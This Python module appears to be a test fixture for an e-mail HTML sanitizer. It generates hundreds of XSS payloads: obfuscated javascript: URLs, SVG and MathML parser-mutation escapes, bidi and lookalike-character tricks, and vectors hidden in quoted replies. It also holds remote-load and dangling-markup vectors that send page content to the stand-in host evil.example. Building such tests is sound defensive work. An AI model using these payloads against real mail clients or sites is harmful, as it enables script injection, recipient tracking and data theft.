"""HTML that tries to run a script or to load something where a mail is shown."""

import itertools

TAGS = [
    "script", "style", "iframe", "object", "embed", "svg", "math", "link", "meta", "base", "form",
    "input", "button", "video", "audio", "source", "picture", "noscript", "template", "xmp",
    "textarea", "title", "marquee", "frameset", "applet", "body", "html", "head", "select", "portal",
]  # fmt: skip
HANDLERS = [
    "onerror", "onload", "onclick", "onmouseover", "onfocus autofocus", "ontoggle", "onbegin",
    "onanimationstart", "ONERROR", "onerror\n", "/onerror", "on\x00error", "style", "formaction",
    "srcset", "background", "ping", "cite", "action", "xlink:href", "id", "class", "name", "target",
    "lowsrc", "dynsrc", "poster", "data", "srcdoc", "usemap",
]  # fmt: skip
URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    " javascript:alert(1)", "\x01javascript:alert(1)", "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript&colon;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
    "vbscript:x", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,PHN2Zz4=",
    "feed:javascript:alert(1)", "//evil.example/x", "/x", "x.png", "file:///etc/passwd", "blob:x",
    "view-source:x", "jar:x", "ms-its:x", "livescript:x", "mocha:x", "javascript\u3000:x",
]  # fmt: skip
HOLDERS = [
    "<a href='{}'>x</a>", '<a href="{}">x</a>', "<a href={}>x</a>", "<img src='{}'>",
    "<iframe src='{}'></iframe>", "<form action='{}'>", "<svg><a xlink:href='{}'>x</a></svg>",
    "<math href='{}'>x</math>", "<blockquote cite='{}'>x</blockquote>", "<td background='{}'>",
    "<area href='{}'>", "<base href='{}'>", "<link rel=stylesheet href='{}'>", "<object data='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>", "<video poster='{}'>", "<img srcset='{} 2x'>",
]  # fmt: skip
TRICKS = [
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>--!>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?xml <img src=x onerror=alert(1)>?>",
    "<img src=`x` onerror=alert(1)>", "<img \x00src=x onerror=alert(1)>", "<a\x0bhref=javascript:x>",
    "<table><td><svg><desc><td><a href=javascript:x>", "<select><template><img src=x onerror=x>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<plaintext><img src=x onerror=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<p style='background:url(javascript:x)'>x</p>",
    "<img src='cid:x' onerror=alert(1)>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]  # fmt: skip

LOADS = [
    "<style>@import '{}';</style>x", "<style>p{background:url({})}</style><p>x",
    "<style>@font-face{font-family:f;src:url({})}p{font-family:f}</style><p>x",
    "<style>ul{list-style-image:url({})}</style><ul><li>x</ul>", "<p style='background:url({})'>x",
    "<p style='background-image:image-set(\"{}\" 1x)'>x", "<p style='content:url({})'>x",
    "<p style='cursor:url({}),auto'>x", "<li style='list-style:url({})'>x",
    "<p style='border-image:url({}) 1'>x", "<p style='mask:url({})'>x", "<p style='filter:url({}#f)'>x",
    "<link rel=stylesheet href='{}'>", "<link rel=icon href='{}'>", "<link rel=preload as=image href='{}'>",
    "<link rel=prefetch href='{}'>", "<link rel=modulepreload href='{}'>", "<link rel=manifest href='{}'>",
    "<link rel=preconnect href='{}'>", "<link rel=dns-prefetch href='{}'>", "<link rel=import href='{}'>",
    "<script src='{}'></script>", "<script type=module src='{}'></script>",
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{}"]}]}</script>',
    "<img src='{}'>", "<img src=' {} '>", '<img src="{}" loading=eager>', "<image src='{}'>",
    "<img srcset='{} 1x'>", "<img src=data:, srcset='{} 1x, {} 2x' sizes=9px>",
    "<picture><source srcset='{}'><img src=data:,></picture>", "<img lowsrc='{}' dynsrc='{}'>",
    "<video src='{}' autoplay></video>", "<video poster='{}'></video>", "<audio src='{}' autoplay></audio>",
    "<video><source src='{}'></video>", "<video src=data:,><track default src='{}'></video>",
    "<embed src='{}'>", "<object data='{}'></object>", "<applet code=x archive='{}'></applet>",
    "<iframe src='{}'></iframe>", "<iframe srcdoc='&lt;img src={}&gt;'></iframe>",
    "<frameset><frame src='{}'></frameset>", "<portal src='{}'></portal>", "<fencedframe src='{}'></fencedframe>",
    "<input type=image src='{}'>", "<body background='{}'>x", "<table background='{}'><tr><td>x</table>",
    "<table><tr><td background='{}'>x</table>", "<bgsound src='{}'>", "<meta http-equiv=refresh content='0;url={}'>",
    "<base href='{}'><img src=relative.png>", "<a href='{}' ping='{}' autofocus>x</a>",
    "<form action='{}'><input name=a autofocus><button>x</button></form>",
    "<form id=f></form><button form=f formaction='{}'>x</button>", "<isindex action='{}' prompt=x>",
    "<svg><image href='{}'/></svg>", "<svg><image xlink:href='{}'/></svg>", "<svg><use href='{}#x'/></svg>",
    "<svg><feImage href='{}'/></svg>", "<svg><style>@import '{}';</style></svg>",
    "<svg><script href='{}'></script></svg>", "<svg><foreignObject><img src='{}'></foreignObject></svg>",
    "<svg><rect fill='url({}#x)'/></svg>", "<math><mtext><img src='{}'></mtext></math>",
    "<div><template shadowrootmode=open><img src='{}'></template></div>",
    "<noscript><img src='{}'></noscript>", "<xml><i><img src='{}'></i></xml>",
    "<!--[if true]><img src='{}'><![endif]-->", "<![CDATA[<img src='{}'>]]>", "<select><img src='{}'></select>",
    "<table><img src='{}'></table>", "<dialog open><img src='{}'></dialog>", "<object><img src='{}'></object>",
    "<xss style='background:url({})'>x</xss>", "<input style='background:url({})'>",
    "<blockquote cite='{}'>x</blockquote>", "<img longdesc='{}' usemap='{}' src=data:,>",
    "<a href='javascript:x' style='background:url({})'>x</a>", "<ul><li style=\"background:url('{}')\">x</ul>",
    '<font face="x;src:url({})">x</font>', '<td bgcolor="url({})">x', '<img width="url({})" src=data:,>',
]  # fmt: skip
REMOTE = ["//evil.example/x", "http://evil.example/x", "https://evil.example/x", "HTTP:\\\\evil.example/x",
          "ht\ntp://evil.example/x", "\x01http://evil.example/x"]  # fmt: skip

ROOTS = [
    "svg", "math", "svg><desc", "svg><title", "svg><foreignObject", "math><mtext", "math><mi", "math><ms",
    "math><annotation-xml encoding=text/html", "math><annotation-xml", "form><math><mtext", "table><svg",
]  # fmt: skip
RAW_TEXTS = [
    "style", "title", "noscript", "textarea", "xmp", "iframe", "noembed", "noframes", "script", "plaintext",
    "template", "mglyph><style", "table><mglyph><style", "p><style", "!--", "![CDATA[", "?xml ",
]  # fmt: skip
"""What is text where HTML reads it and elements where SVG or MathML do, or the other way round: a
mutation when what was written is read again."""
ESCAPES = [
    "</{}><img src=x onerror=alert(1)>", "<a id='</{}><img src=//evil.example/x onerror=alert(1)>'>",
    "--><img src=//evil.example/x onerror=alert(1)>", "]]><img src=//evil.example/x onerror=alert(1)>",
]  # fmt: skip
ANIMATED = [
    "<svg><a><{0} attributeName={1} {2}=javascript:alert(1) begin=0s /><text y=9>x</text></a></svg>",
    "<svg><{0} attributeName={1} {2}=//evil.example/x begin=0s /></svg>",
    "<svg><image><{0} attributeName={1} {2}=//evil.example/x begin=0s /></image></svg>",
    "<svg><{0} onbegin=alert(1) attributeName={1} {2}=x dur=1s /></svg>",
]  # fmt: skip
DANGLING = [
    "<img src='//evil.example/?", '<img src="//evil.example/?', "<img src=//evil.example/?", "<img srcset='//evil.example/?",
    "<p style='background:url(//evil.example/?", "<style>@import '//evil.example/?", "<a href='//evil.example/?",
    "<form action='//evil.example/?'><textarea name=a>", "<form action=//evil.example/><select name=a><option>",
    "<meta http-equiv=refresh content='0;url=//evil.example/?", "<base target='", "<link rel=stylesheet href='//evil.example/?",
    "<object data='//evil.example/?", "<video poster='//evil.example/?", "<iframe src='//evil.example/?",
    "<input type=image src='//evil.example/?", "<button formaction='//evil.example/?", "<table background='//evil.example/?",
    "<noscript><form action=//evil.example/><input type=submit style='position:fixed;inset:0' value='",
]  # fmt: skip
"""Left open, so that what follows in the page goes along."""
TURNED = [
    "<a href='\u202ejavascript:alert(1)'>x</a>", "<a href='java\u202escript:alert(1)'>x</a>", "<scr\u202eipt>alert(1)</script>",
    "<im\u200dg src=//evil.example/x>", "\u2066<img src=//evil.example/x onerror=alert(1)>\u2069", "<\u202eimg src=//evil.example/x>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<\ufeffscript>alert(1)</script>",
    "<\u017fcript>alert(1)</\u017fcript>", "<\u212amg src=//evil.example/x>", "<a href='javascr\u0131pt:alert(1)'>x</a>",
]  # fmt: skip
QUOTES = [
    "{}", "<blockquote type=cite>{}", "<blockquote class=gmail_quote>{}</blockquote>",
    "<div class=gmail_attr>Ann wrote:</div><blockquote class=gmail_quote>{}</blockquote>",
    "<div class=gmail_signature>{}</div>", "<div id=divRplyFwdMsg>{}</div>", "<hr id=stopSpelling>{}",
    "<div style='border:none;border-top:solid #E1E1E1 1.0pt'>{}</div>", "<blockquote type=cite title='</details>{}'>x",
    "<div class='gmail_signature' title=\"<details ontoggle=alert(1) open>\">{}</div>", "<pre class=moz-signature>{}</pre>",
]  # fmt: skip


def folded():
    """What folding might open again: vectors in what is quoted, in quotes, below what is seen."""
    inner = [
        *TRICKS,
        *DANGLING,
        "<img src=//evil.example/x onerror=alert(1)>",
        "</details><script>alert(1)</script>",
    ]
    for vector, (outer, middle) in zip(
        inner * 3, itertools.cycle(itertools.product(QUOTES, QUOTES))
    ):
        yield "seen" + outer.replace("{}", middle.replace("{}", vector))


def vectors():
    """Ways to run a script, each as `alert(1)`, and to load something, each from evil.example."""
    yield from TRICKS
    for holder, url in itertools.product(HOLDERS, URLS):
        yield holder.format(url)
    for tag, handler in itertools.product(TAGS, HANDLERS[:8]):
        yield f"<{tag} {handler}=alert(1) src=x>x<img src=x></{tag}>"
    for tag, handler in itertools.product(["p", "a", "img", "td", "table", "div"], HANDLERS):
        for quote in ("", "'", '"'):
            yield f"<{tag} {handler}={quote}//evil.example/x{quote}>x"
    for holder, url in itertools.product(LOADS, REMOTE):
        yield holder.replace("{}", url)
    for root, text, escape in itertools.product(ROOTS, RAW_TEXTS, ESCAPES):
        # Each root meets each text, in one or other escape.
        if (ROOTS.index(root) + RAW_TEXTS.index(text) + ESCAPES.index(escape)) % len(ESCAPES) == 0:
            yield f"<{root}><{text}>" + escape.replace("{}", text.rpartition("<")[2])
    for shape, element, attribute, value in itertools.product(
        ANIMATED, ("animate", "set"), ("href", "xlink:href"), ("to", "values")
    ):
        yield shape.format(element, attribute, value)
    yield from DANGLING
    yield from TURNED


VECTORS = list(vectors())
FOLDED = list(folded())
